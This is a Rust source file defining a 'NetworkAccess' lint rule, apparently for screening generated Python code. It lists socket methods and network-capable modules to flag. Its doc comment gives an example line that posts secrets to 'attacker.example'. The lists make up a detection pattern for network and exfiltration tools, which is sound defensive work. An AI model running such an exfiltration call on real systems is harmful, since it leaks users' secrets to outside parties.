use super::rule_doc;

rule_doc! {
    /// ## What it does
    /// Flags code that can open sockets or make requests: `socket`, `ssl`, `http.client`,
    /// `http.server`, `urllib.request`, `requests`, `httpx`, `aiohttp`, mail, FTP and
    /// telnet clients, asyncio's connection helpers, and database and cloud clients
    /// that connect over the network.
    ///
    /// ## Why is this bad?
    /// Network access lets generated code exfiltrate data, download and run payloads,
    /// reach internal services (SSRF) or serve files to the world.
    ///
    /// ## Example
    /// ```python
    /// import requests
    /// requests.post("https://attacker.example", data=secrets)
    /// ```
    NetworkAccess
}

pub(crate) const WHAT: &str = "can open network connections";

/// Event-loop and socket methods that open connections, whatever object they are
/// called on.
pub(crate) const METHODS: &[&str] = &[
    "getnameinfo",
    "create_connection",
    "create_server",
    "create_unix_connection",
    "create_unix_server",
    "create_datagram_endpoint",
    "sock_connect",
    "getaddrinfo",
];

pub(crate) const PATHS: &[&str] = &[
    "socket",
    "_socket",
    "ssl",
    "http.client",
    "http.server",
    "http.cookiejar",
    "httplib",
    "urllib.request",
    "numpy.DataSource",
    "urllib.urlopen",
    "urllib.urlretrieve",
    "urllib2",
    "requests",
    "httpx",
    "aiohttp",
    "urllib3",
    "ftplib",
    "smtplib",
    "smtpd",
    "aiosmtplib",
    "poplib",
    "imaplib",
    "nntplib",
    "telnetlib",
    "xmlrpc",
    "socketserver",
    "SocketServer",
    "asyncore",
    "asynchat",
    "selectors",
    "select",
    "wsgiref.simple_server",
    "asyncio.open_connection",
    "asyncio.start_server",
    "asyncio.open_unix_connection",
    "asyncio.start_unix_server",
    "websocket",
    "websockets",
    "paramiko",
    "pycurl",
    "grpc",
    "zmq",
    "tornado",
    "twisted",
    "scapy",
    "dns",
    "redis",
    "aioredis",
    "pymongo",
    "motor",
    "psycopg",
    "psycopg2",
    "asyncpg",
    "pymysql",
    "MySQLdb",
    "mysql",
    "sqlalchemy.create_engine",
    "boto3",
    "botocore",
    "openai",
    "anthropic",
    "urllib.robotparser",
    "kubernetes",
    "wget",
    "gdown",
    // Download (and with `trust_remote_code`, run) models from a hub.
    "transformers",
    "huggingface_hub",
    "httplib2",
    "feedparser",
    "paho",
    "nltk.download",
    "datasets.load_dataset",
    "slack_sdk",
    "trio.open_tcp_stream",
    "trio.open_ssl_over_tcp_stream",
    "trio.serve_tcp",
    "trio.socket",
    "anyio.connect_tcp",
    "anyio.create_tcp_listener",
    "bottle.run",
    // The defining modules of re-exported network helpers, and resolvers that fetch URLs.
    "xml.dom.xmlbuilder",
    "asyncio.streams",
];
